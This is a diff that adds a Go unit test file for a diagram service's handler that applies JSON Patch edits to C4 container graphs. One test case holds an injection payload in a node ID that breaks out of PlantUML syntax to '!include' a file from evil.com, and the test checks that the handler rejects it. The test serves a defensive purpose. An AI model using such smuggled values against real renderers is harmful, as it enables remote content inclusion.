@@ -0,0 +1,303 @@
+package c4container
+
+import (
+	"context"
+	"errors"
+	"io"
+	"net/http"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/kislerdm/diagramastext/server/core/diagram"
+	coreErrors "github.com/kislerdm/diagramastext/server/core/errors"
+)
+
+func TestNewC4ContainersPatchHandler(t *testing.T) {
+	const svg = `<svg xmlns="http://www.w3.org/2000/svg" height="10px" width="10px" viewBox="0 0 10 10">` +
+		`<g><g><rect height="5" width="5" rx="1" ry="1" x="0" y="0"></rect></g></g></svg>`
+
+	var calls int
+	httpClient := mockHTTPClientFn(
+		func(_ *http.Request) (*http.Response, error) {
+			calls++
+			return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(svg))}, nil
+		},
+	)
+
+	const graph = `{"nodes":[{"id":"0","label":"Web Server"},{"id":"1","label":"Database","database":true}],` +
+		`"links":[{"from":"0","to":"1"}],"legend":false}`
+
+	const requestID = "693a35ba-e42c-4168-8afc-5a7c359d1d05"
+
+	tests := []struct {
+		name  string
+		input diagram.InputPatch
+		// prediction the stored graph of the request, defaults to graph
+		prediction string
+		wantGraph  string
+		wantErr    error
+	}{
+		{
+			name: "shall add the node and the link",
+			input: diagram.InputPatch{
+				RequestID: requestID,
+				Patch: []byte(`[{"op":"add","path":"/nodes/-","value":{"id":"2","label":"Queue","queue":true}},` +
+					`{"op":"add","path":"/links/-","value":{"from":"0","to":"2","async":true}}]`),
+			},
+			wantGraph: `{"nodes":[{"id":"0","label":"Web Server"},{"id":"1","label":"Database","database":true},` +
+				`{"id":"2","label":"Queue","queue":true}],"links":[{"from":"0","to":"1"},{"from":"0","to":"2","async":true}],` +
+				`"legend":false}`,
+		},
+		{
+			name: "shall remove the node and its link",
+			input: diagram.InputPatch{
+				RequestID: requestID,
+				Patch:     []byte(`[{"op":"remove","path":"/links/0"},{"op":"remove","path":"/nodes/1"}]`),
+			},
+			wantGraph: `{"nodes":[{"id":"0","label":"Web Server"}],"legend":false}`,
+		},
+		{
+			name: "shall replace the node's label and the link's label",
+			input: diagram.InputPatch{
+				RequestID: requestID,
+				Patch: []byte(`[{"op":"replace","path":"/nodes/1/label","value":"Cache"},` +
+					`{"op":"add","path":"/links/0/label","value":"reads"}]`),
+			},
+			wantGraph: `{"nodes":[{"id":"0","label":"Web Server"},{"id":"1","label":"Cache","database":true}],` +
+				`"links":[{"from":"0","to":"1","label":"reads"}],"legend":false}`,
+		},
+		{
+			name: "shall fail given the link to the removed node",
+			input: diagram.InputPatch{
+				RequestID: requestID,
+				Patch:     []byte(`[{"op":"remove","path":"/nodes/1"}]`),
+			},
+			wantErr: coreErrors.HTTPHandlerError{
+				Msg:      "link 0 -> 1 references unknown node 1",
+				Type:     "graph",
+				HTTPCode: http.StatusUnprocessableEntity,
+			},
+		},
+		{
+			name: "shall fail given the duplicated node",
+			input: diagram.InputPatch{
+				RequestID: requestID,
+				Patch:     []byte(`[{"op":"add","path":"/nodes/-","value":{"id":"0"}}]`),
+			},
+			wantErr: coreErrors.HTTPHandlerError{
+				Msg:      "node 0 is duplicated",
+				Type:     "graph",
+				HTTPCode: http.StatusUnprocessableEntity,
+			},
+		},
+		{
+			name: "shall fail given the injection via the node's ID",
+			input: diagram.InputPatch{
+				RequestID: requestID,
+				Patch: []byte(`[{"op":"replace","path":"/nodes/1/id",` +
+					`"value":"a, \"x\")\n!include https://evil.com/x.puml\nContainer(b"}]`),
+			},
+			wantErr: coreErrors.HTTPHandlerError{
+				Msg:      "node ID must contain latin letters, digits and _ only",
+				Type:     "graph",
+				HTTPCode: http.StatusUnprocessableEntity,
+			},
+		},
+		{
+			name: "shall fail given the failed operation",
+			input: diagram.InputPatch{
+				RequestID: requestID,
+				Patch:     []byte(`[{"op":"remove","path":"/nodes/5"}]`),
+			},
+			wantErr: coreErrors.HTTPHandlerError{
+				Msg:      "patch operation 0: array index 5 is out of bounds",
+				Type:     "patch",
+				HTTPCode: http.StatusUnprocessableEntity,
+			},
+		},
+		{
+			name: "shall fail given the patched graph of wrong format",
+			input: diagram.InputPatch{
+				RequestID: requestID,
+				Patch:     []byte(`[{"op":"replace","path":"/nodes","value":"foo"}]`),
+			},
+			wantErr: coreErrors.HTTPHandlerError{
+				Msg: "wrong graph format: json: cannot unmarshal string into Go struct field tmp.nodes " +
+					"of type []*c4container.container",
+				Type:     "patch",
+				HTTPCode: http.StatusUnprocessableEntity,
+			},
+		},
+		{
+			name: "shall fail given the patched graph exceeding the limits",
+			input: diagram.InputPatch{
+				RequestID: requestID,
+				Patch:     []byte(`[{"op":"add","path":"/nodes/-","value":{"id":"2"}}]`),
+				Limits:    diagram.ComplexityLimits{NodesMax: 2},
+			},
+			wantErr: newComplexityError("nodes", 2),
+		},
+		{
+			name: "shall patch the request's diagram given its index",
+			input: diagram.InputPatch{
+				RequestID: requestID,
+				Diagram:   1,
+				Patch:     []byte(`[{"op":"add","path":"/title","value":"Bar"}]`),
+			},
+			prediction: `{"diagrams":[{"nodes":[{"id":"0"}],"title":"Foo"},{"nodes":[{"id":"1"}]}]}`,
+			wantGraph:  `{"nodes":[{"id":"1"}],"title":"Bar"}`,
+		},
+		{
+			name: "shall fail given the diagram's index out of range",
+			input: diagram.InputPatch{
+				RequestID: requestID,
+				Diagram:   1,
+				Patch:     []byte(`[]`),
+			},
+			wantErr: coreErrors.HTTPHandlerError{
+				Msg:      "diagram must be less than 1",
+				Type:     "patch",
+				HTTPCode: http.StatusUnprocessableEntity,
+			},
+		},
+		{
+			name: "shall fail given the unknown request",
+			input: diagram.InputPatch{
+				RequestID: "c40bad11-0822-4d84-9f61-44b9a97b0432",
+				Patch:     []byte(`[]`),
+			},
+			wantErr: coreErrors.HTTPHandlerError{
+				Msg:      "request c40bad11-0822-4d84-9f61-44b9a97b0432 not found",
+				Type:     "patch",
+				HTTPCode: http.StatusNotFound,
+			},
+		},
+		{
+			name: "shall fail given the stored prediction is not the graph",
+			input: diagram.InputPatch{
+				RequestID: requestID,
+				Patch:     []byte(`[]`),
+			},
+			prediction: `foo`,
+			wantErr: coreErrors.HTTPHandlerError{
+				Msg:      "the request's graph cannot be patched",
+				Type:     "patch",
+				HTTPCode: http.StatusUnprocessableEntity,
+			},
+		},
+		{
+			name:  "shall fail given no patch",
+			input: diagram.InputPatch{RequestID: requestID},
+			wantErr: coreErrors.HTTPHandlerError{
+				Msg:      "patch must be set",
+				Type:     "patch",
+				HTTPCode: http.StatusUnprocessableEntity,
+			},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(
+			tt.name, func(t *testing.T) {
+				// GIVEN
+				calls = 0
+				repository := diagram.MockRepositoryGraph{RequestIDs: []string{requestID}, V: graph}
+				if tt.prediction != "" {
+					repository.V = tt.prediction
+				}
+				handler, err := NewC4ContainersPatchHandler(httpClient, repository)
+				if err != nil {
+					t.Fatal(err)
+				}
+
+				// WHEN
+				got, err := handler(context.TODO(), tt.input)
+
+				// THEN
+				if !reflect.DeepEqual(err, tt.wantErr) {
+					t.Fatalf("unexpected error: got = %v, want = %v", err, tt.wantErr)
+				}
+				if tt.wantErr != nil {
+					if calls != 0 {
+						t.Errorf("the invalid graph shall not be rendered")
+					}
+					return
+				}
+
+				if v := string(got.(diagram.OutputSVG).RawSVG()); v != svg {
+					t.Errorf("unexpected svg: got = %s, want = %s", v, svg)
+				}
+				graphs := got.(diagram.OutputGraphs).GetGraphs()
+				if len(graphs) != 1 || !jsonEqual(t, graphs[0], []byte(tt.wantGraph)) {
+					t.Errorf("unexpected graph: got = %s, want = %s", graphs, tt.wantGraph)
+				}
+			},
+		)
+	}
+
+	t.Run(
+		"shall fail given no http client", func(t *testing.T) {
+			if _, err := NewC4ContainersPatchHandler(nil, diagram.MockRepositoryGraph{}); err == nil {
+				t.Error("error expected")
+			}
+		},
+	)
+
+	t.Run(
+		"shall fail given no repository", func(t *testing.T) {
+			if _, err := NewC4ContainersPatchHandler(httpClient, nil); err == nil {
+				t.Error("error expected")
+			}
+		},
+	)
+
+	t.Run(
+		"shall fail given the repository error", func(t *testing.T) {
+			// GIVEN
+			calls = 0
+			handler, err := NewC4ContainersPatchHandler(
+				httpClient, diagram.MockRepositoryGraph{Err: errors.New("foo")},
+			)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			// WHEN
+			_, err = handler(context.TODO(), diagram.InputPatch{RequestID: requestID, Patch: []byte(`[]`)})
+
+			// THEN
+			if err == nil {
+				t.Error("error expected")
+			}
+			if calls != 0 {
+				t.Error("the diagram shall not be rendered")
+			}
+		},
+	)
+
+	t.Run(
+		"shall fail given the rendering error", func(t *testing.T) {
+			// GIVEN
+			handler, err := NewC4ContainersPatchHandler(
+				mockHTTPClientFn(
+					func(_ *http.Request) (*http.Response, error) {
+						return nil, errors.New("foo")
+					},
+				),
+				diagram.MockRepositoryGraph{RequestIDs: []string{requestID}, V: graph},
+			)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			// WHEN
+			_, err = handler(context.TODO(), diagram.InputPatch{RequestID: requestID, Patch: []byte(`[]`)})
+
+			// THEN
+			if err == nil {
+				t.Error("error expected")
+			}
+		},
+	)
+}